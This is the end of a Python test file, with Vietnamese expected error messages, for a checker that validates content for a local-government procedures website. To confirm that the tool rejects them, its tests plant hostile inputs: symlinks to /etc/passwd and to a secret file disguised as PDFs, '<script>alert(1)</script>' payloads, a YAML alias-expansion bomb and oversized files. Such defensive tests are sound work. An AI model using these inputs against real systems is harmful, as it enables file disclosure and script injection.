content/tep/mau/passwd.pdf:1:1: lỗi [file.symlink]: «content/tep/mau/passwd.pdf» là liên kết tượng trưng (symlink); cchc chỉ đọc tệp thật nằm trong content/ và không đi theo liên kết, để không đăng nhầm tệp ở nơi khác lên trang web
  gợi ý: xóa liên kết rồi chép chính tệp (hoặc thư mục) vào đây, ví dụ:
         rm content/tep/mau/passwd.pdf
         cp /đường/dẫn/tệp-gốc content/tep/mau/passwd.pdf
content/tep/mau/trang.html:1:1: lỗi [attachment.type]: tệp đính kèm «trang.html» có đuôi .html, không thuộc các loại được đăng lên trang web
  gợi ý: chỉ đăng tài liệu và ảnh: doc, docx, gif, jpeg, jpg, odp, ods, odt, pdf, png, ppt, pptx, rtf, webp, xls, xlsx, zip; trang web (.html), ảnh .svg, tệp .js, .md… không được đăng vì có thể chạy mã trên trang của xã: chuyển sang PDF rồi đặt lại vào content/tep/
content/thu-tuc/ho-tich/1-001193.yml:12:10: lỗi [attachment.outside_tep]: trường `mau` trỏ tới «don-vi.yml», không phải tệp đính kèm trong thư mục tep/
  gợi ý: tệp đính kèm đặt trong content/tep/ và ghi đường dẫn từ content/, ví dụ:
         mau: "tep/mau/to-khai.docx"
content/thu-tuc/ho-tich/bom.yml:1:4: lỗi [yaml.alias]: tệp dùng tham chiếu YAML (neo «&» và bí danh «*»); nội dung cchc không cho dùng vì một tệp nhỏ có thể bung ra hàng tỷ giá trị
  gợi ý: viết đầy đủ giá trị ở mỗi chỗ cần; nếu giá trị bắt đầu bằng «*» hoặc «&» thì đặt trong ngoặc kép, ví dụ:
         ghi_chu: "*Lưu ý"
content/thu-tuc/ho-tich/dai.yml:1:13: lỗi [name.too_long]: mã thủ tục «1.00000000000000000000000000000000000000…» dài 72 ký tự, vượt giới hạn 64; tên này dùng làm tên tệp và địa chỉ trang web nên không được quá dài
  gợi ý: rút gọn mã thủ tục, ví dụ:
         ma_thu_tuc: "1.001193"
content/trang/lon.md:1:1: lỗi [file.too_large]: tệp nặng 3,0 MB, vượt giới hạn 2,0 MB của một tệp nội dung; tệp nội dung chỉ chứa chữ, nên thường chỉ vài chục KB
  gợi ý: kiểm tra xem có dán nhầm dữ liệu lớn vào tệp không; nội dung dài thì chia thành nhiều tệp, tài liệu kèm theo thì đặt trong content/tep/
Không đạt: 9 lỗi, 0 cảnh báo. Chưa có gì được ghi.
"""


def test_every_new_message_word_for_word(cchc: Callable[..., Run],
                                         make_content: Callable[..., Path],
                                         chdir: Path) -> None:
    content = make_content({
        "thu-tuc/ho-tich/1-001193.yml": with_form("don-vi.yml"),
        "thu-tuc/ho-tich/dai.yml": MINIMAL_PROCEDURE.replace("1.001193", "1." + "0" * 70),
        "thu-tuc/ho-tich/bom.yml": 'a: &a ["x"]\nb: [*a, *a]\n',
        "tep/mau/trang.html": b"<script>alert(1)</script>",
        "tep/mau/gia.pdf": b"<!DOCTYPE html><script>alert(1)</script>",
        "trang/lon.md": "---\ntieu_de: A\n---\n" + "x" * 3 * 1024 * 1024,
    })
    with open(content / "tep" / "mau" / "lon.pdf", "wb") as handle:
        handle.write(PDF)
        handle.truncate(60 * 1024 * 1024)
    os.symlink("/etc/passwd", content / "tep" / "mau" / "passwd.pdf")
    os.mkfifo(content / "tep" / "mau" / "ong.pdf")
    run = cchc("check", "--content", "content")
    assert run.code == 1
    assert run.err == EXPECTED_MESSAGES


@pytest.mark.parametrize("value", ["tep/mau", "tep/mau/.an.pdf", "tep/mau/~$tam.docx"])
def test_mau_naming_a_folder_or_an_unpublished_file_is_missing(
        value: str, cchc: Callable[..., Run], make_content: Callable[..., Path],
        chdir: Path) -> None:
    make_content({"thu-tuc/ho-tich/1-001193.yml": with_form(value), "tep/mau/that.pdf": PDF,
                  "tep/mau/.an.pdf": PDF, "tep/mau/~$tam.docx": _docx()})
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert "content/thu-tuc/ho-tich/1-001193.yml:12:10: lỗi [procedure.file_missing]" in run.err


def test_serve_refuses_a_linked_attachment_before_serving(
        cchc: Callable[..., Run], make_content: Callable[..., Path], secret: Path,
        chdir: Path) -> None:
    content = make_content({"tep/mau/that.pdf": PDF})
    os.symlink(secret / "bi-mat.txt", content / "tep" / "mau" / "bi-mat.pdf")
    with socket.socket() as probe:  # a free port: the preview refuses before serving
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    run = cchc("serve", "--content", "content", "--port", str(port))
    no_traceback(run)
    assert "content/tep/mau/bi-mat.pdf:1:1: lỗi [file.symlink]" in run.err
    assert "Không xem trước được" in run.err
    assert leaked(run.err, chdir / "site_src") == []
